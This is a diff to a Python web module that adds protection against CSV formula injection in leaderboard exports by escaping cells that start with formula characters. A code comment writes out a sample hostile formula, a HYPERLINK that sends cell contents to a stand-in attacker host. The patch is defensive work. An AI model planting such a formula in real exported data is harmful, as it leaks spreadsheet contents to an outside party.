@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from collections.abc import Iterable, Sequence
 from typing import Any
 
@@ -71,12 +72,33 @@ def leaderboard_rows(board: dict[str, Any]) -> list[dict[str, Any]]:
     return [{**r, "points": points_text(r["points"])} for r in board["rows"]]
 
 
+# A spreadsheet reads a cell starting with one of these as a formula (OWASP "CSV injection"):
+# =HYPERLINK("http://evil.example/?"&A1, "prize") in a player's name would run when the file is opened.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def csv_cell(value: Any) -> Any:
+    """A cell as written: text that a spreadsheet would read as a formula gets a leading ``'`` (shown as
+    text, not run); numbers, and text that is a plain number (``"-12.50"`` points), are written as they are.
+
+    >>> [csv_cell(v) for v in ('=1+1', '@SUM(A1)', '-12.50', -3, 'Ann', None)]
+    ["'=1+1", "'@SUM(A1)", '-12.50', -3, 'Ann', '']
+    """
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
 def csv_response(rows: Iterable[dict[str, Any]], columns: Sequence[str], filename: str) -> HttpResponse:
+    """Every CSV download: the rows under ``columns``, each cell through :func:`csv_cell`."""
     buf = io.StringIO()
     writer = csv.DictWriter(buf, fieldnames=list(columns), extrasaction="ignore", lineterminator="\r\n")
     writer.writeheader()
     for row in rows:
-        writer.writerow({c: "" if row.get(c) is None else row.get(c) for c in columns})
+        writer.writerow({c: csv_cell(row.get(c)) for c in columns})
     response = HttpResponse(buf.getvalue(), content_type="text/csv; charset=utf-8")
     response["Content-Disposition"] = f'attachment; filename="{filename}"'
     return response
